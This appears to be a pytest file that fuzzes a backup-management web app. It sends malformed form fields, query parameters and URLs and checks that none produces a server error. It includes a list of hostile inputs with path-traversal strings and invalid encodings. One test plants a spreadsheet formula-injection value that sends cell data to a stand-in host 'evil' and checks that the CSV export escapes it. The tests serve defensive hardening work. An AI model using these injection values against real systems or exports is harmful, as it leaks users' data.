"""What no browser of ours would send gets an answer all the same: a sentence, never an error of the server."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any, ClassVar

import pytest
from werkzeug.datastructures import ImmutableMultiDict

from tests.webapp.forms import words
from tests.webapp.shelf import Shelf
from tests.webapp.site import _CSRF, Browser, Site, person
from webapp.models import Destination
from webapp.services import configurations, runs

LONG = "9" * 5000
HALF = "/a\ud800"
HOSTILE = (
    *("%00", "%FF", "%ED%A0%80", LONG, "%C2%B2", "-1", "", "0001-01-01", "9999-12-31", "2026-13-45", "%5B", "%25FF"),
    *("%2500", "%2F%FF", "..%2F..%2Fetc", "x" * 3000, "1e9", "bk_x"),
)
EACH = 2


@pytest.fixture
def site(shelf: Shelf) -> Site:
    shelf.configure()
    return Site(shelf.installation)


def shown(shelf: Shelf) -> dict[str, Any]:
    return configurations.shown(configurations.find(shelf.installation, "shop"))


def post(shelf: Shelf, admin: Browser, path: str, **fields: str) -> Any:
    """The form of a configuration as its page would send it, with other fields."""
    token = _CSRF.search(admin.get("/account").text)
    assert token is not None
    whole = json.dumps(shown(shelf))
    sent = {"began": whole, "version": "1", "draft": "", "do": "review", "csrf_token": token[1], **fields}
    return admin.client.post(path, data=sent if "document" in sent else {"base": whole, **sent})


@pytest.mark.parametrize(
    ("fields", "status"),
    [
        ({"version": "²"}, 409),
        ({"version": LONG}, 409),
        ({"places-0-was": "²", "places-0-kind": "local"}, 422),
        ({"places-0-was": LONG, "places-0-kind": "local"}, 422),
        ({"places-²-kind": "local"}, 400),
        ({f"places-{LONG}-kind": "local"}, 400),
        ({"began": "[]"}, 400),
        ({"began": json.dumps({"name": HALF})}, 400),
    ],
    ids=lambda value: next(iter(value))[:30] if isinstance(value, dict) else str(value),
)
def test_a_form_that_was_changed_on_its_way(shelf: Shelf, admin: Browser, fields: dict[str, str], status: int) -> None:
    answer = post(shelf, admin, "/backups/shop/edit", **{"name": "Other", **fields})
    assert answer.status_code in (status, 422)
    assert post(shelf, admin, "/backups/new", **fields).status_code in (200, 400, 422)


@pytest.mark.parametrize(
    "part",
    [
        {"retention": "x"},
        {"retention": [1]},
        {"objectives": 5},
        {"notifications": 5},
        {"sources": []},
        {"sources": "x"},
        {"sources": {"paths": ["x"]}},
        {"sources": {"paths": [{"x": 1}]}},
        {"destinations": [5]},
        {"destinations": [{"type": "local"}]},
        {"labels": {"a": HALF}},
    ],
    ids=json.dumps,
)
def test_a_hidden_document_of_another_shape(shelf: Shelf, admin: Browser, part: dict[str, Any]) -> None:
    answer = post(shelf, admin, "/backups/shop/edit", base=json.dumps({**shown(shelf), **part}), folders="/a")
    # No sources at all are a shape that a form begins with; the schema has a sentence for that.
    assert answer.status_code == 400 or (part == {"sources": []} and answer.status_code == 422)


@pytest.mark.parametrize("do", ["review", "save", "join", "json", "form"])
def test_half_a_character_is_no_text(shelf: Shelf, admin: Browser, do: str) -> None:
    for part in ({"name": HALF}, {"labels": {HALF: "a"}}, {"sources": {"paths": [{"path": HALF}]}}):
        typed = json.dumps({**shown(shelf), **part})
        for path in ("/backups/shop/edit", "/backups/new"):
            answer = post(shelf, admin, path, document=typed, do=do)
            assert answer.status_code == 422
            assert "half a character" in words(answer.text)
    assert post(shelf, admin, "/backups/new/preview", document=typed, do=do).status_code in (200, 422)


def test_the_name_of_a_destination_is_no_formula(shelf: Shelf, admin: Browser) -> None:
    shelf.backup()
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    with shelf.installation.database.transaction() as session:
        session.get_one(Destination, shelf.place().id).name = formula
    head = next(csv.reader(io.StringIO(admin.get("/stats?csv=destinations").text)))
    assert head[1:] == [f"'{formula}"]


class Noted(ImmutableMultiDict[str, str]):
    """Query parameters that remember which of them a page asks for."""

    asked: ClassVar[set[str]] = set()

    def get(self, key: str, *options: Any, **named: Any) -> Any:
        self.asked.add(key)
        return super().get(key, *options, **named)

    def getlist(self, key: str, *options: Any, **named: Any) -> Any:
        self.asked.add(key)
        return super().getlist(key, *options, **named)

    def __contains__(self, key: object) -> bool:
        self.asked.add(str(key))
        return super().__contains__(key)


def pages(shelf: Shelf, site: Site, point: str) -> list[str]:
    """The addresses of all pages, with ids that are there."""
    known = {"backup_id": point, "config_id": "shop", "run_id": runs.listing(shelf.installation)[0].public_id}
    rules = [
        each for each in site.app.url_map.iter_rules() if "GET" in (each.methods or ()) and each.endpoint != "static"
    ]
    own = [each.rule for each in rules if not each.rule.startswith("/api/backup/")]
    return [re.sub(r"<(?:\w+:)?(\w+)>", lambda match: known.get(match[1], "1"), rule) for rule in own]


def asked_by(reader: Browser, path: str) -> list[str]:
    """The parameters that a page asks for; names of files, of any bytes, are read another way."""
    Noted.asked.clear()
    answer = reader.get(path)
    assert answer.status_code < 500, path
    if answer.status_code == 403:
        return []
    return sorted(Noted.asked | ({"path", "name"} if "/restore-points/" in path else set()))


@pytest.mark.parametrize("role", ["manager", "admin", "super_admin"])
def test_no_parameter_is_an_error_of_the_server(shelf: Shelf, site: Site, role: str) -> None:
    """Each parameter with the next few of the values; roles that see less try all of a page with one."""
    point = shelf.backup()
    site.app.request_class = type("Request", (site.app.request_class,), {"parameter_storage_class": Noted})
    reader, turn = person(site, "reader", role), 0
    for path in pages(shelf, site, point):
        names = asked_by(reader, path)
        tries = [[name] for name in names for _ in range(EACH)] if role == "super_admin" else [names]
        for together in tries:
            value = HOSTILE[turn % len(HOSTILE)]
            turn += 1
            query = "&".join(f"{name}={value}" for name in together)
            assert reader.get(f"{path}?{query}").status_code < 500, f"{path}?{query[:60]}"
    assert turn > len(HOSTILE)


def test_no_address_is_an_error_of_the_server(site: Site, admin: Browser) -> None:
    for rule in site.app.url_map.iter_rules():
        if "GET" in (rule.methods or ()) and rule.arguments and not rule.rule.startswith(("/api/", "/static")):
            for value in ("%00", "%FF", "%C2%B2", "9" * 30):
                path = re.sub(r"<[^>]+>", value, rule.rule)
                assert admin.get(path).status_code < 500, path
